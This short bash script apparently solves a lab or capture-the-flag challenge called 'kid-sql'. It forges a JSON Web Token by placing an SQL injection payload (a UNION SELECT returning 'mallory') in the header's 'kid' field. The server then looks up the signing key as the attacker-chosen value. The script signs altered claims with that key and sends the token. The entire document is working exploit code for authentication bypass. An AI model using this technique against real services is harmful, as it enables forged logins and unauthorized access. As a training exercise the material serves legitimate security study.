#!/usr/bin/env bash
. "$(dirname "$0")/tools.sh"

token="$(curl -s "$(at kid-sql token)")"
header="$(printf '{"alg":"HS256","kid":"%s","typ":"JWT"}' "' UNION SELECT 'mallory' -- " | b64)"
input="$header.$(claims "$token")"
send kid-sql "$input.$(hs256 "$input" "$(printf mallory | hex)")"
